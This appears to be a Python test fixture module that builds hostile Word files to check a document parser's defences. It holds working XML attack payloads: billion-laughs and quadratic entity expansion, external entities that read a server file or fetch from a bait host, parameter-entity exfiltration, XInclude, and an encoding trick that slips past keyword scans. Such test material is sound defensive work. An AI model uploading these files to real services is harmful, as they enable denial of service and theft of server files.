"""Word files whose XML defines entities, fetches them, or includes other files."""

from collections.abc import Callable

from tests.hostile.bombs.bait import Bait
from tests.hostile.bombs.packages import OFFICE, W, packed, parts, relationships

TEN = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))


def declaring(subset: str, shown: str = "&a;", root: str = "") -> bytes:
    """A Word file whose main part begins with a document type."""
    text = f"<w:p><w:r><w:t>Dear Ms. Roe: {shown}</w:t></w:r></w:p>"
    main = f"<!DOCTYPE d {root} [{subset}]><w:document {W}><w:body>{text}</w:body></w:document>"
    return packed(parts(main.encode()))


def billion_laughs(_bait: Bait) -> bytes:
    """Ten of ten of ten, nine deep."""
    return declaring(f'<!ENTITY a0 "ha">{TEN}', "&a9;")


def quadratic(_bait: Bait) -> bytes:
    """One long entity, a hundred thousand times."""
    return declaring(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 100_000)


def from_elsewhere(bait: Bait) -> bytes:
    """An entity, and a document type, that lie elsewhere."""
    return declaring(f'<!ENTITY a SYSTEM "{bait.http}/entity">', root=f'SYSTEM "{bait.http}/dtd"')


def from_the_disk(bait: Bait) -> bytes:
    """An entity that is a file of the server's."""
    return declaring(f'<!ENTITY a SYSTEM "{bait.file}">')


def by_parameter(bait: Bait) -> bytes:
    """Parameter entities that would send a file away."""
    return declaring(
        f'<!ENTITY % f SYSTEM "{bait.file}"><!ENTITY % d SYSTEM "{bait.http}/d.dtd">%d;<!ENTITY a "&#37;f;">'
    )


def included(bait: Bait) -> bytes:
    """XInclude of a file and of an address, and a style sheet that lies elsewhere."""
    place = f'<xi:include parse="text" href="{bait.file}"/><xi:include href="{bait.http}/included"/>'
    main = (
        f'<?xml-stylesheet href="{bait.http}/style.xsl" type="text/xsl"?><w:document {W} '
        f'xmlns:xi="http://www.w3.org/2001/XInclude"><w:body><w:p><w:r><w:t>Dear Ms. Roe: {place}</w:t></w:r></w:p></w:body></w:document>'
    )
    return packed(parts(main.encode()))


def in_utf_16(bait: Bait) -> bytes:
    """An entity behind another encoding, where a search for words would miss it."""
    main = (
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a SYSTEM "{bait.http}/16">]><d>&a;</d>'
    )
    return packed(parts(main.encode("utf-16")))


def in_relationships(bait: Bait) -> bytes:
    """Entities where the package says what belongs to what."""
    rels = f'<!DOCTYPE d [<!ENTITY a SYSTEM "{bait.http}/rels">]>'.encode() + relationships(
        ("officeDocument", "&a;")
    )
    return packed(parts(b"<d/>") | {"_rels/.rels": rels})


def many_attributes(_bait: Bait) -> bytes:
    """An element with two hundred thousand attributes, and names that were chosen to collide."""
    attributes = " ".join(f'w:a{number}="1"' for number in range(200_000))
    return packed(parts(f"<w:document {W} xmlns:r='{OFFICE}'><w:body {attributes}/></w:document>".encode()))


FILES: dict[str, Callable[[Bait], bytes]] = {
    "billion-laughs.docx": billion_laughs,
    "quadratic-entities.docx": quadratic,
    "entities-from-elsewhere.docx": from_elsewhere,
    "entities-from-the-disk.docx": from_the_disk,
    "parameter-entities.docx": by_parameter,
    "xinclude.docx": included,
    "entities-in-utf-16.docx": in_utf_16,
    "entities-in-relationships.docx": in_relationships,
    "200,000-attributes.docx": many_attributes,
}
